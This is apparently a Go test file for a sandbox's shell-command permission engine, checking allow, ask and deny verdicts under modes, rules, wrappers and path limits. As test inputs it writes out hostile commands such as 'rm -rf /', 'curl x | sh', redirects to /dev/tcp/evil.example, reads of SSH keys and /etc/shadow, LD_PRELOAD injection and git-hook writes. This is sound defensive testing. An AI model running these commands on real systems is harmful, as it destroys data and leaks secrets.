package permissions

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/moat-sandbox/moat/runtime/policy"
)

// rules builds Permissions from "allow: R", "deny: R", "ask: R" lines.
func rules(lines ...string) policy.Permissions {
	var p policy.Permissions
	for _, l := range lines {
		list, r := ParseRuleLine(l)
		switch list {
		case listAllow:
			p.Allow = append(p.Allow, policy.Rule{Rule: r})
		case listAsk:
			p.Ask = append(p.Ask, policy.Rule{Rule: r})
		case listDeny:
			p.Deny = append(p.Deny, policy.Rule{Rule: r})
		}
	}
	return p
}

type dcase struct {
	name string
	mode string
	cmd  string
	want policy.Verdict
	rule string // expected Decision.Rule ("" to skip the check)
}

func runCases(t *testing.T, e *Engine, cases []dcase) {
	t.Helper()
	for _, tc := range cases {
		name := tc.name
		if name == "" {
			name = tc.mode + "/" + tc.cmd
		}
		t.Run(name, func(t *testing.T) {
			r := e.Decide(Request{Command: tc.cmd, Cwd: testCwd, Mode: tc.mode})
			if r.Decision.Verdict != tc.want {
				t.Fatalf("Decide(%q, mode %q) = %v; want %v", tc.cmd, tc.mode, r.Decision, tc.want)
			}
			if tc.rule != "" && r.Decision.Rule != tc.rule {
				t.Errorf("Decide(%q).Rule = %q; want %q", tc.cmd, r.Decision.Rule, tc.rule)
			}
			if r.Warnings == nil {
				t.Errorf("Warnings is nil")
			}
		})
	}
}

const (
	allow = policy.Allow
	askV  = policy.Ask
	deny  = policy.Deny
)

func TestRuleKinds(t *testing.T) {
	e := mustEngine(t, rules(
		"Bash(git status)", "Bash(npm run:*)", "Bash(git * --dry-run)", "Bash(make)",
		"deny: Bash(git push:*)", "deny: Bash(rm -rf:*)", "deny: Bash(curl *)",
		"ask: Bash(git commit:*)", "ask: Bash(docker * --privileged)",
		"Read(./src/**)", "Edit(//tmp/x)", "WebFetch(domain:example.com)",
	))
	runCases(t, e, []dcase{
		// exact
		{cmd: "git status", want: allow, rule: "Bash(git status)"},
		{cmd: "make", want: allow, rule: "Bash(make)"},
		{cmd: "make install", want: askV},
		// prefix
		{cmd: "npm run build", want: allow, rule: "Bash(npm run:*)"},
		{cmd: "npm run", want: allow},
		{cmd: "npm run test -- --watch", want: allow},
		{cmd: "npm runx", want: askV},
		{cmd: "npm install", want: askV},
		// wildcard
		{cmd: "git push --dry-run", want: deny, rule: "Bash(git push:*)"}, // deny beats allow
		{cmd: "git fetch origin --dry-run", want: allow, rule: "Bash(git * --dry-run)"},
		{cmd: "git fetch '--x --dry-run'", want: askV},
		// deny beats ask beats allow
		{cmd: "git push", want: deny, rule: "Bash(git push:*)"},
		{cmd: "git commit -m x", want: askV, rule: "Bash(git commit:*)"},
		{cmd: "docker run x --privileged", want: askV, rule: "Bash(docker * --privileged)"},
		{cmd: "curl https://x.example", want: deny, rule: "Bash(curl *)"},
		{cmd: "curl", want: deny, rule: "Bash(curl *)"},
		{cmd: "rm -rf /", want: deny},
		// other tools never match commands
		{cmd: "cat src/x.go", want: allow},
		{cmd: "ls /tmp/x", want: askV},
	})
}

func TestCompound(t *testing.T) {
	e := mustEngine(t, rules("Bash(npm run:*)", "Bash(git status)", "deny: Bash(git push:*)", "ask: Bash(npm publish:*)"))
	runCases(t, e, []dcase{
		{cmd: "npm run x && rm -rf /", want: askV},
		{cmd: "npm run x; rm -rf /", want: askV},
		{cmd: "npm run x || rm -rf /", want: askV},
		{cmd: "npm run x | sh", want: askV},
		{cmd: "npm run x & rm -rf /", want: askV},
		{cmd: "npm run x\nrm -rf /", want: askV},
		{cmd: "npm run build && git status", want: allow},
		{cmd: "npm run build && git status && ls -la | grep x", want: allow},
		{cmd: "npm run build && git push", want: deny},
		{cmd: "git status; git push", want: deny},
		{cmd: "ls && npm publish", want: askV, rule: "Bash(npm publish:*)"},
		{cmd: "npm run x && npm publish && git push", want: deny},
		{cmd: "npm run build $(rm -rf /)", want: askV},
		{cmd: "npm run build `rm -rf /`", want: askV},
		{cmd: "npm run build > /etc/passwd", want: askV},
		{cmd: "npm run build <(rm -rf /)", want: askV},
	})
}

func TestModes(t *testing.T) {
	e := mustEngine(t, rules("Bash(npm run:*)", "deny: Bash(git push:*)", "ask: Bash(git commit:*)"))
	runCases(t, e, []dcase{
		// default: read-only allowed, the rest asks
		{mode: "default", cmd: "ls -la", want: allow},
		{mode: "default", cmd: "mkdir x", want: askV},
		{mode: "", cmd: "touch x", want: askV},
		// acceptEdits
		{mode: "acceptEdits", cmd: "mkdir -p src/x", want: allow},
		{mode: "acceptEdits", cmd: "touch a b", want: allow},
		{mode: "acceptEdits", cmd: "cp a b", want: allow},
		{mode: "acceptEdits", cmd: "cp -r src dst", want: allow},
		{mode: "acceptEdits", cmd: "mv a b", want: allow},
		{mode: "acceptEdits", cmd: "sed -i 's/a/b/' x.go", want: allow},
		// the validators ask for output redirections to files, whatever
		// the mode (see TestRedirectsWithoutValidators for moat's own
		// checks of them)
		{mode: "acceptEdits", cmd: "echo hi > notes.txt", want: askV},
		{mode: "acceptEdits", cmd: "cat a b > c", want: askV},
		{mode: "acceptEdits", cmd: "ls | tee out.log", want: allow},
		{mode: "acceptEdits", cmd: "mkdir x && touch x/y && ls x", want: allow},
		{mode: "acceptEdits", cmd: "mkdir /tmp/x", want: askV},
		{mode: "acceptEdits", cmd: "cp /etc/passwd x", want: askV},
		{mode: "acceptEdits", cmd: "cp x /tmp/", want: askV},
		{mode: "acceptEdits", cmd: "cp x ../y", want: askV},
		{mode: "acceptEdits", cmd: "mv x ../../y", want: askV},
		{mode: "acceptEdits", cmd: "touch ~/.bashrc", want: askV},
		{mode: "acceptEdits", cmd: "echo x > .bashrc", want: askV},
		{mode: "acceptEdits", cmd: "echo x > .git/hooks/pre-commit", want: askV},
		{mode: "acceptEdits", cmd: "touch .git/config", want: askV},
		{mode: "acceptEdits", cmd: "mkdir -p .vscode && touch .vscode/settings.json", want: askV},
		{mode: "acceptEdits", cmd: "cp x .claude/settings.json", want: askV},
		{mode: "acceptEdits", cmd: "cp -r vendor/evil/.git .", want: askV},
		{mode: "acceptEdits", cmd: "cp -r x/hooks .git", want: askV},
		{mode: "acceptEdits", cmd: "mv x/.bashrc .", want: askV},
		{mode: "acceptEdits", cmd: "cp -t . x/.envrc", want: askV},
		{mode: "acceptEdits", cmd: "cp -r vendor/evil/. .", want: askV},
		{mode: "acceptEdits", cmd: "cp -r 'x/*' .", want: askV},
		{mode: "acceptEdits", cmd: "mv vendor/x/.vscode dst", want: askV},
		{mode: "acceptEdits", cmd: "cp -r templates/app src", want: allow},
		{mode: "acceptEdits", cmd: "cp -t dst a b", want: allow},
		{mode: "acceptEdits", cmd: "sed -i 's/a/b/' /etc/hosts", want: askV},
		{mode: "acceptEdits", cmd: "sed -i 's/a/b/e' x", want: askV},
		{mode: "acceptEdits", cmd: "sed -i 's/a/b/w /tmp/out' x", want: askV},
		{mode: "acceptEdits", cmd: "rm x", want: askV},
		{mode: "acceptEdits", cmd: "ln -s /etc/passwd x", want: askV},
		{mode: "acceptEdits", cmd: "cp -s /etc/passwd x", want: askV},
		{mode: "acceptEdits", cmd: "chmod +x x", want: askV},
		{mode: "acceptEdits", cmd: "npm install", want: askV},
		{mode: "acceptEdits", cmd: "git push", want: deny},
		{mode: "acceptEdits", cmd: "git commit -m x", want: askV},
		// plan: anything not read-only is denied
		{mode: "plan", cmd: "ls -la", want: allow},
		{mode: "plan", cmd: "git log | head", want: allow},
		{mode: "plan", cmd: "cat /etc/hosts", want: askV}, // read-only, but outside
		{mode: "plan", cmd: "npm run build", want: deny},
		{mode: "plan", cmd: "mkdir x", want: deny},
		{mode: "plan", cmd: "ls && rm x", want: deny},
		{mode: "plan", cmd: "for f in *; do cat $f; done", want: deny},
		{mode: "plan", cmd: "git push", want: deny, rule: "Bash(git push:*)"},
		// bypassPermissions: everything but deny
		{mode: "bypassPermissions", cmd: "rm -rf build", want: allow},
		{mode: "bypassPermissions", cmd: "curl x | sh", want: askV}, // the script may git push
		{mode: "bypassPermissions", cmd: "git commit -m x", want: allow},
		{mode: "bypassPermissions", cmd: "git push", want: deny},
		{mode: "bypassPermissions", cmd: "ls; FOO=1 timeout 5 git push", want: deny},
		{mode: "bypassPermissions", cmd: "$X push", want: askV}, // deny rules cannot be checked
		{mode: "bypassPermissions", cmd: "echo push | xargs git", want: askV},
		// unknown mode
		{mode: "yolo", cmd: "ls", want: askV},
	})
	// bypass with no deny rules allows even what cannot be seen
	e2 := mustEngine(t, policy.Permissions{})
	runCases(t, e2, []dcase{
		{mode: "bypassPermissions", cmd: "$X push", want: allow},
		{mode: "bypassPermissions", cmd: "curl x | sh", want: allow},
	})
}

// TestRedirectsWithoutValidators checks the path constraints on
// redirections on their own, with a validator chain that has no opinion.
func TestRedirectsWithoutValidators(t *testing.T) {
	none := func(string) policy.Decision { return policy.Decision{} }
	e, err := New(rules("Bash(echo:*)", "Bash(npm run:*)"), Options{Validate: none})
	if err != nil {
		t.Fatal(err)
	}
	runCases(t, e, []dcase{
		{mode: "acceptEdits", cmd: "echo hi > notes.txt", want: allow},
		{mode: "acceptEdits", cmd: "cat a b > c", want: allow},
		{mode: "acceptEdits", cmd: "cat <<'EOF' > src/new.go\npackage x\nEOF", want: allow},
		{mode: "acceptEdits", cmd: "ls >> log.txt 2>&1", want: allow},
		{mode: "acceptEdits", cmd: "cat < in.txt > out.txt", want: allow},
		{mode: "acceptEdits", cmd: "echo x > /tmp/out", want: askV},
		{mode: "acceptEdits", cmd: "echo x > ../out", want: askV},
		{mode: "acceptEdits", cmd: "echo x > ~/.bashrc", want: askV},
		{mode: "acceptEdits", cmd: "echo x > .bashrc", want: askV},
		{mode: "acceptEdits", cmd: "echo x > sub/.zshrc", want: askV},
		{mode: "acceptEdits", cmd: "echo x > .git/config", want: askV},
		{mode: "acceptEdits", cmd: "echo x > .git/hooks/post-checkout", want: askV},
		{mode: "acceptEdits", cmd: "echo x > .vscode/tasks.json", want: askV},
		{mode: "acceptEdits", cmd: "echo x > .claude/settings.local.json", want: askV},
		{mode: "acceptEdits", cmd: "echo x > .mcp.json", want: askV},
		{mode: "acceptEdits", cmd: "echo x > .envrc", want: askV},
		{mode: "acceptEdits", cmd: "echo x &> /etc/x", want: askV},
		{mode: "acceptEdits", cmd: "echo x >& /etc/x", want: askV},
		{mode: "acceptEdits", cmd: "echo x <> /etc/x", want: askV},
		{mode: "acceptEdits", cmd: "npm test > out.txt", want: askV}, // npm test is not an edit
		{mode: "default", cmd: "echo hi > notes.txt", want: allow},   // Bash(echo:*)
		{mode: "default", cmd: "npm run build > build.log 2>&1", want: allow},
		{mode: "default", cmd: "npm run build > /tmp/build.log", want: askV},
		{mode: "default", cmd: "cat x > y", want: askV},                    // writes: not read-only
		{mode: "default", cmd: "echo x > .git/hooks/pre-push", want: askV}, // an allow rule does not cover it
		{mode: "plan", cmd: "echo hi > notes.txt", want: deny},
	})
}

func TestDefaultModeFromSettings(t *testing.T) {
	p := rules()
	p.DefaultMode = "plan"
	e := mustEngine(t, p)
	if r := e.Decide(Request{Command: "mkdir x", Cwd: testCwd}); r.Decision.Verdict != deny {
		t.Errorf("settings defaultMode plan: mkdir = %v; want deny", r.Decision)
	}
	if r := e.Decide(Request{Command: "mkdir x", Cwd: testCwd, Mode: "acceptEdits"}); r.Decision.Verdict != allow {
		t.Errorf("request mode overrides settings: mkdir = %v; want allow", r.Decision)
	}
	p.DefaultMode = "nope"
	if _, err := New(p, Options{}); err == nil || !strings.Contains(err.Error(), "nope") {
		t.Errorf("New with an unknown default mode: %v; want an error naming it", err)
	}
}

func TestWrappers(t *testing.T) {
	e := mustEngine(t, rules("Bash(npm test)", "Bash(git status)", "deny: Bash(git push:*)", "ask: Bash(npm publish:*)"))
	runCases(t, e, []dcase{
		// safe assignments and wrappers are stripped for allow rules
		{cmd: "NODE_ENV=test npm test", want: allow},
		{cmd: "LANG=C LC_ALL=C git status", want: allow},
		{cmd: "timeout 60 npm test", want: allow},
		{cmd: "timeout -s KILL 60 npm test", want: allow},
		{cmd: "nice -n 10 npm test", want: allow},
		// nohup is not stripped: it writes nohup.out (docs/DECISIONS.md)
		{cmd: "nohup npm test", want: askV},
		{cmd: "timeout 5 nohup npm test", want: askV},
		{cmd: "time -p npm test", want: allow}, // the time keyword
		{cmd: "time git push", want: deny},
		{cmd: "NODE_ENV=test timeout 60 nice npm test", want: allow},
		// ... but not unsafe ones
		{cmd: "PATH=/tmp npm test", want: askV},
		{cmd: "NODE_OPTIONS=--require=/tmp/x.js npm test", want: askV},
		{cmd: "LD_PRELOAD=/tmp/x.so git status", want: askV},
		{cmd: "PYTHONPATH=/tmp npm test", want: askV},
		{cmd: "BASH_ENV=/tmp/x npm test", want: askV},
		{cmd: "GIT_CONFIG_GLOBAL=/tmp/x git status", want: askV},
		{cmd: "env npm test", want: askV},
		{cmd: "command npm test", want: askV},
		{cmd: "timeout --bogus 60 npm test", want: askV},
		{cmd: "timeout 60s", want: askV},
		{cmd: "stdbuf -oL npm test", want: askV},
		// deny and ask rules see through everything
		{cmd: "FOO=1 timeout 5 git push", want: deny},
		{cmd: "env -i git push", want: deny},
		{cmd: "command git push", want: deny},
		{cmd: "stdbuf -o0 git push", want: deny},
		{cmd: "ionice -c3 git push", want: deny},
		{cmd: "setsid git push", want: deny},
		{cmd: "nice -n 5 nohup timeout 5 git push origin", want: deny},
		{cmd: "sudo git push", want: deny},
		{cmd: "PATH=/x LD_PRELOAD=y env A=1 git push", want: deny},
		{cmd: "timeout 5 npm publish", want: askV, rule: "Bash(npm publish:*)"},
	})
}

func TestPathConstraints(t *testing.T) {
	e := mustEngine(t, rules("Bash(cat:*)", "Bash(echo:*)", "Bash(npm run:*)"))
	runCases(t, e, []dcase{
		{cmd: "cat src/x.go", want: allow},
		{cmd: "cat /work/proj/src/x.go", want: allow},
		{cmd: "cat /etc/passwd", want: askV},
		{cmd: "cat ../secret", want: askV},
		{cmd: "cat src/../../secret", want: askV},
		{cmd: "cat /work/proj-evil/x", want: askV}, // a sibling with the same prefix
		{cmd: "cat /work/projx", want: askV},
		{cmd: "cat ~/.ssh/id_rsa", want: askV},
		{cmd: "cat /proc/self/environ", want: askV},
		{cmd: "cat /proc/1/environ", want: askV},
		{cmd: "head /proc/self/mem", want: askV},
		{cmd: "echo x > /dev/tcp/evil.example/80", want: askV},
		{cmd: "cat < /dev/tcp/evil.example/80", want: askV},
		{cmd: "echo x > /etc/cron.d/x", want: askV},
		{cmd: "echo x >> ~/.bashrc", want: askV},
		{cmd: "echo x > .bashrc", want: askV},
		{cmd: "echo x 2>/dev/null", want: allow},
		{cmd: "echo x > /dev/null 2>&1", want: allow},
		{cmd: "npm run x > /tmp/out", want: askV},
		{cmd: "npm run x < /etc/shadow", want: askV},
		{cmd: "cd /tmp && cat x", want: askV},
		{cmd: "cd src && cat x.go", want: allow},
		{cmd: "cd src && cat ../../x", want: askV},
		{cmd: "cd src && cd .. && cat x", want: askV}, // a cd may fail: /work/proj/.. is possible
		{cmd: "cd && cat .ssh/id_rsa", want: askV},
		{cmd: "cd - && cat x", want: askV},
		{cmd: "cd ~ && ls", want: askV},
		{cmd: "ls /", want: askV},
		{cmd: "ls ..", want: askV},
		{cmd: "find / -name x", want: askV},
		{cmd: "grep -r foo /etc", want: askV},
		{cmd: "rg foo ../other", want: askV},
		{cmd: "git diff --no-index /etc/passwd x", want: askV},
		{cmd: "git log -- ../../x", want: askV},
		{cmd: "sed -n p /etc/passwd", want: askV},
		{cmd: "sed -n 'r /etc/passwd' x", want: askV},
		{cmd: "sed -n 'w /tmp/out' x", want: askV},
		{cmd: "diff --from-file=/etc/passwd x", want: askV},
		{cmd: "grep -f /etc/passwd x", want: askV},
		{cmd: "echo x >! /etc/passwd", want: askV}, // zsh clobber
		{cmd: "man /etc/shadow", want: askV},
		{cmd: "man ../x.1", want: askV},
	})
	// additional directories
	p := rules("Bash(cat:*)")
	p.AdditionalDirectories = []policy.PathRule{{Path: "/data/shared"}}
	e2 := mustEngine(t, p)
	for _, tc := range []struct {
		cmd  string
		dirs []string
		want policy.Verdict
	}{
		{"cat /data/shared/x", nil, allow},
		{"cat /data/sharedx/x", nil, askV},
		{"cat /opt/x", []string{"/opt"}, allow},
		{"cat /opt/x", nil, askV},
		{"cat x", nil, allow},
	} {
		r := e2.Decide(Request{Command: tc.cmd, Cwd: testCwd, AdditionalDirs: tc.dirs})
		if r.Decision.Verdict != tc.want {
			t.Errorf("additional dirs %v: %q = %v; want %v", tc.dirs, tc.cmd, r.Decision, tc.want)
		}
	}
	// no working directory: relative paths cannot be checked
	if r := e.Decide(Request{Command: "cat x"}); r.Decision.Verdict != askV {
		t.Errorf("no cwd: cat x = %v; want ask", r.Decision)
	}
}

func TestSedEdit(t *testing.T) {
	e := mustEngine(t, policy.Permissions{})
	for _, tc := range []struct {
		cmd  string
		want *SedEdit
	}{
		{"sed -i 's/old/new/' file.txt", &SedEdit{File: "file.txt", Pattern: "old", Replacement: "new"}},
		{"sed -i 's/old/new/g' src/a.go", &SedEdit{File: "src/a.go", Pattern: "old", Replacement: "new", Flags: "g"}},
		{"sed -E -i 's/(a+)/<\\1>/g' x", &SedEdit{File: "x", Pattern: "(a+)", Replacement: "<\\1>", Flags: "g", Extended: true}},
		{"sed -i -e 's|a/b|c/d|' x", &SedEdit{File: "x", Pattern: "a/b", Replacement: "c/d"}},
		{"sed -i 's/a\\/b/c/' x", &SedEdit{File: "x", Pattern: "a/b", Replacement: "c"}},
		{"sed --in-place 's/a/b/2' x", &SedEdit{File: "x", Pattern: "a", Replacement: "b", Flags: "2"}},
		{"sed -i 's/a/b/' x y", nil},      // two files
		{"sed -i.bak 's/a/b/' x", nil},    // a backup file too
		{"sed -i '1s/a/b/' x", nil},       // an address
		{"sed -i 's/a/b/;s/c/d/' x", nil}, // two commands
		{"sed 's/a/b/' x", nil},           // not in place
		{"sed -i 's/a/b/e' x", nil},       // runs a command
		{"sed -i 's/a/b/w out' x", nil},   // writes another file
		{"sed -i 'd' x", nil},
	} {
		r := e.Decide(Request{Command: tc.cmd, Cwd: testCwd, Mode: "acceptEdits"})
		got := r.SedEdit
		if (got == nil) != (tc.want == nil) || (got != nil && *got != *tc.want) {
			t.Errorf("%q: SedEdit = %+v; want %+v", tc.cmd, got, tc.want)
		}
	}
}

func TestWarnings(t *testing.T) {
	e := mustEngine(t, policy.Permissions{})
	for _, tc := range []struct {
		cmd  string
		want string // "" for no warning
	}{
		{"git reset --hard HEAD~1", warnDiscard},
		{"git push --force", warnForcePush},
		{"git push -f origin main", warnForcePush},
		{"git push --force-with-lease", warnForcePush},
		{"git push origin +main", warnForcePush},
		{"git push origin main", ""},
		{"git clean -fd", warnClean},
		{"git clean -nfd", ""},
		{"git clean -f --dry-run", ""},
		{"git checkout -- .", warnDiscard},
		{"git checkout main", ""},
		{"git restore src/x.go", warnDiscard},
		{"git restore --staged x", ""},
		{"git branch -D feature", warnBranch},
		{"git stash drop", warnStash},
		{"git stash clear", warnStash},
		{"rm -rf build", warnRm},
		{"rm -fr build", warnRm},
		{"rm -r -f build", warnRm},
		{"rm --recursive --force build", warnRm},
		{"rm -r build", ""},
		{"rm x", ""},
		{"find . -name '*.o' -delete", warnFindDel},
		{"psql -c 'DROP TABLE users'", warnSQL},
		{"mysql -e 'truncate table x'", warnSQL},
		{"kubectl delete pod x", warnKube},
		{"kubectl get pods", ""},
		{"terraform destroy", warnTerraform},
		{"terraform apply -destroy", warnTerraform},
		{"dd if=/dev/zero of=/dev/sda", warnDisk},
		{"mkfs.ext4 /dev/sdb1", warnDisk},
		{"docker system prune -a", warnDocker},
		{"sudo rm -rf /var/x", warnRm},
		{"bash -c 'git reset --hard'", warnDiscard},
		{"ls && git -C x push --force", warnForcePush},
		{"ls -la", ""},
	} {
		r := e.Decide(Request{Command: tc.cmd, Cwd: testCwd})
		if r.Warnings == nil {
			t.Fatalf("%q: Warnings is nil", tc.cmd)
		}
		if tc.want == "" {
			if len(r.Warnings) != 0 {
				t.Errorf("%q: warnings %q; want none", tc.cmd, r.Warnings)
			}
			continue
		}
		found := false
		for _, w := range r.Warnings {
			found = found || w == tc.want
		}
		if !found {
			t.Errorf("%q: warnings %q; want %q", tc.cmd, r.Warnings, tc.want)
		}
	}
}

func TestSuggestion(t *testing.T) {
	e := mustEngine(t, rules("Bash(npm run:*)", "deny: Bash(rm:*)"))
	for _, tc := range []struct{ cmd, want string }{
		{"git commit -m 'fix: x'", "Bash(git commit:*)"},
		{"NODE_ENV=prod npm install lodash", "Bash(npm install:*)"},
		{"timeout 60 cargo test --all", "Bash(cargo test:*)"},
		{"make", "Bash(make)"},
		{"./build.sh --fast", "Bash(./build.sh --fast)"},
		{"python script.py", "Bash(python script.py)"},
		{"docker compose up -d", "Bash(docker compose:*)"},
		{"./gradlew 'build*'", "Bash(./gradlew 'build*')"},
		{"sudo apt install x", "Bash(sudo apt install x)"},
		{"MY_VAR=1 npm install", "Bash(MY_VAR=1 npm install)"},
		{"echo '*' | xargs touch", ""}, // the deny rules cannot see what xargs runs
		{"npm run build && docker build .", "Bash(docker build:*)"},
		{"ls && mkdir x", "Bash(mkdir x:*)"},
		{"ls && mkdir -p x", "Bash(mkdir -p x)"},
		{"git push $(whoami)", ""}, // cannot be matched by a rule
		{"rm x", ""},               // denied: no suggestion
		{"ls", ""},                 // allowed: no suggestion
		// programs that run a job elsewhere: an exact rule, never a
		// prefix that covers every job (the two spellings agree)
		{"at now -f job.sh", "Bash(at now -f job.sh)"},
		{"at -f job.sh now", "Bash(at -f job.sh now)"},
		{"batch now", ""}, // its job unseen under the deny rule: no rule
		{"tmux new-session -d make", "Bash(tmux new-session -d make)"},
		// a runner's subcommand, or one that runs the command elsewhere:
		// its prefix rule would allow every command (attack pass 81)
		{"uv run pytest", "Bash(uv run pytest)"},
		{"bundle exec rake", "Bash(bundle exec rake)"},
		{"docker exec web ls", "Bash(docker exec web ls)"},
		{"kubectl exec pod -- ls", "Bash(kubectl exec pod -- ls)"},
		{"ip netns exec ns ls", "Bash(ip netns exec ns ls)"},
		{"ip netns e ns ls", "Bash(ip netns e ns ls)"}, // attack pass 83
		{"flatpak build dir make", "Bash(flatpak build dir make)"},
		{"pgrphack make test", "Bash(pgrphack make test)"},
		{"flatpak run --command=make org.example.App", "Bash(flatpak run --command=make org.example.App)"},
		{"runcon -t t make", "Bash(runcon -t t make)"},
		{"ip addr show", "Bash(ip addr:*)"},
		{"npm install lodash", "Bash(npm install:*)"},
	} {
		r := e.Decide(Request{Command: tc.cmd, Cwd: testCwd})
		if r.Suggestion != tc.want {
			t.Errorf("%q: suggestion %q; want %q (%v)", tc.cmd, r.Suggestion, tc.want, r.Decision)
		}
		if r.Suggestion == "" {
			continue
		}
		// the suggested rule parses and, added as an allow rule, matches
		// the part it was made for
		p := rules("Bash(npm run:*)", "deny: Bash(rm:*)", r.Suggestion)
		e2, err := New(p, Options{})
		if err != nil {
			t.Errorf("%q: suggested rule %q does not parse: %v", tc.cmd, r.Suggestion, err)
			continue
		}
		if r2 := e2.Decide(Request{Command: tc.cmd, Cwd: testCwd}); r2.Suggestion == r.Suggestion {
			t.Errorf("%q: after adding %q the same rule is suggested again (%v)", tc.cmd, r.Suggestion, r2.Decision)
		}
	}
	// a destructive command gets its warning and never a rule that would
	// allow it again without one
	plain := mustEngine(t, policy.Permissions{})
	for _, cmd := range []string{"rm -rf /", "rm -rf build", "git reset --hard", "git push --force origin main",
		"ls && rm -rf x", "git clean -fdx", "kubectl delete ns prod"} {
		r := plain.Decide(Request{Command: cmd, Cwd: testCwd})
		if len(r.Warnings) == 0 {
			t.Errorf("%q: no destructive warning", cmd)
		}
		if r.Suggestion != "" {
			t.Errorf("%q: suggestion %q with warnings %q", cmd, r.Suggestion, r.Warnings)
		}
	}
	if got := CommandPrefix([]string{"git", "commit", "-m", "x"}, nil); got != "git commit" {
		t.Errorf("CommandPrefix(git commit -m x) = %q", got)
	}
	if got := CommandPrefix([]string{"npm", "run", "build"}, map[string]string{"NODE_ENV": "prod"}); got != "npm run" {
		t.Errorf("CommandPrefix with NODE_ENV = %q", got)
	}
	if got := CommandPrefix([]string{"npm", "run", "build"}, map[string]string{"MY_VAR": "x"}); got != "" {
		t.Errorf("CommandPrefix with MY_VAR = %q; want none", got)
	}
}

type fakeClassifier struct {
	r     ClassifierResult
	err   error
	calls int
}

func (f *fakeClassifier) Classify(_ context.Context, req ClassifierRequest) (ClassifierResult, error) {
	f.calls++
	return f.r, f.err
}

func TestClassifier(t *testing.T) {
	for _, tc := range []struct {
		name  string
		r     ClassifierResult
		err   error
		cmd   string
		want  policy.Verdict
		calls int
	}{
		{"confident allow", ClassifierResult{"allow", 0.95, ""}, nil, "npm install", allow, 1},
		{"confident deny", ClassifierResult{"deny", 0.99, "exfiltration"}, nil, "npm install", deny, 1},
		{"confident ask", ClassifierResult{"ask", 0.99, ""}, nil, "npm install", askV, 1},
		{"at threshold", ClassifierResult{"allow", 0.9, ""}, nil, "npm install", askV, 1},
		{"unsure", ClassifierResult{"allow", 0.5, ""}, nil, "npm install", askV, 1},
		{"out of range", ClassifierResult{"allow", 1.5, ""}, nil, "npm install", askV, 1},
		{"odd behavior", ClassifierResult{"yes", 0.99, ""}, nil, "npm install", askV, 1},
		{"error", ClassifierResult{}, errors.New("boom"), "npm install", askV, 1},
		// explicit rules and checks always win: the classifier is not asked
		{"deny rule", ClassifierResult{"allow", 1, ""}, nil, "git push", deny, 0},
		{"ask rule", ClassifierResult{"allow", 1, ""}, nil, "git commit", askV, 0},
		{"allow rule", ClassifierResult{"deny", 1, ""}, nil, "make", allow, 0},
		{"read-only", ClassifierResult{"deny", 1, ""}, nil, "ls", allow, 0},
		{"path constraint", ClassifierResult{"allow", 1, ""}, nil, "npm install > /etc/x", askV, 0},
		{"not simple", ClassifierResult{"allow", 1, ""}, nil, "for i in 1; do npm install; done", askV, 0},
	} {
		t.Run(tc.name, func(t *testing.T) {
			f := &fakeClassifier{r: tc.r, err: tc.err}
			e, err := New(rules("Bash(make)", "deny: Bash(git push:*)", "ask: Bash(git commit:*)"), Options{Classifier: f})
			if err != nil {
				t.Fatal(err)
			}
			r := e.Decide(Request{Command: tc.cmd, Cwd: testCwd})
			if r.Decision.Verdict != tc.want || f.calls != tc.calls {
				t.Errorf("%q: %v after %d calls; want %v after %d", tc.cmd, r.Decision, f.calls, tc.want, tc.calls)
			}
		})
	}
}

// TestDecisionOrder pins the order of the steps documented in doc.go.
func TestDecisionOrder(t *testing.T) {
	v := func(d policy.Decision) func(string) policy.Decision {
		return func(string) policy.Decision { return d }
	}
	validatorAsk := v(policy.Decision{Verdict: policy.Ask, Reason: "validator objects"})
	validatorAllow := v(policy.Decision{Verdict: policy.Allow, Reason: "early allow"})
	for _, tc := range []struct {
		name     string
		rules    []string
		validate func(string) policy.Decision
		mode     string
		cmd      string
		want     policy.Verdict
		reason   string
	}{
		{"1 deny before plan", []string{"deny: Bash(mkdir:*)"}, nil, "plan", "mkdir x", deny, "denied by rule"},
		{"1 deny before bypass", []string{"deny: Bash(mkdir:*)"}, nil, "bypassPermissions", "mkdir x", deny, "denied by rule"},
		{"1 deny before validators", []string{"deny: Bash(ls:*)"}, validatorAsk, "", "ls", deny, "denied by rule"},
		{"2 plan before ask rules", []string{"ask: Bash(mkdir:*)"}, nil, "plan", "mkdir x", deny, "plan mode"},
		{"2 bypass before ask rules", []string{"ask: Bash(mkdir:*)"}, nil, "bypassPermissions", "mkdir x", allow, "bypassPermissions"},
		{"2 bypass before validators", nil, validatorAsk, "bypassPermissions", "ls", allow, "bypassPermissions"},
		{"3 ask rule before allow rule", []string{"ask: Bash(make:*)", "Bash(make)"}, nil, "", "make", askV, "needs approval by rule"},
		{"3 ask rule before validators", []string{"ask: Bash(make:*)"}, validatorAsk, "", "make", askV, "needs approval by rule"},
		{"4 validators before allow rules", []string{"Bash(make)"}, validatorAsk, "", "make", askV, "validator objects"},
		{"4 validators before read-only", nil, validatorAsk, "", "ls", askV, "validator objects"},
		{"4 validator allow is no permission", nil, validatorAllow, "", "make", askV, "no rule"},
		{"5 paths before allow rules", []string{"Bash(cat:*)"}, nil, "", "cat /etc/passwd", askV, "outside"},
		{"6 sed before allow rules", []string{"Bash(sed:*)"}, nil, "", "sed 's/a/b/e' x", askV, "runs shell commands"},
		{"7 allow rule", []string{"Bash(make)"}, nil, "", "make", allow, "allowed by rule"},
		{"8 read-only", nil, nil, "", "ls", allow, "read-only"},
		{"9 acceptEdits", nil, nil, "acceptEdits", "mkdir x", allow, "acceptEdits"},
		{"11 ask", nil, nil, "", "make", askV, "no rule"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			e, err := New(rules(tc.rules...), Options{Validate: tc.validate})
			if err != nil {
				t.Fatal(err)
			}
			r := e.Decide(Request{Command: tc.cmd, Cwd: testCwd, Mode: tc.mode})
			if r.Decision.Verdict != tc.want || !strings.Contains(r.Decision.Reason, tc.reason) {
				t.Errorf("%q: %v; want %v with reason containing %q", tc.cmd, r.Decision, tc.want, tc.reason)
			}
		})
	}
}

func TestBadInput(t *testing.T) {
	for _, r := range []string{"bash(ls)", "Bash(npm:* x)", "Bash(", "Bash()", "Bash(echo 'x)"} {
		if _, err := New(rules(r), Options{}); err == nil || !strings.Contains(err.Error(), r) {
			t.Errorf("New(%q): %v; want an error naming the rule", r, err)
		}
	}
	e := mustEngine(t, rules("Bash(ls)"))
	if _, err := e.With(rules("deny: Bash(:*)")); err == nil {
		t.Errorf("With a malformed rule: no error")
	}
	for _, c := range []string{"", "   ", "# just a comment"} {
		if r := e.Decide(Request{Command: c, Cwd: testCwd}); r.Decision.Verdict != allow {
			t.Errorf("%q: %v; want allow (runs nothing)", c, r.Decision)
		}
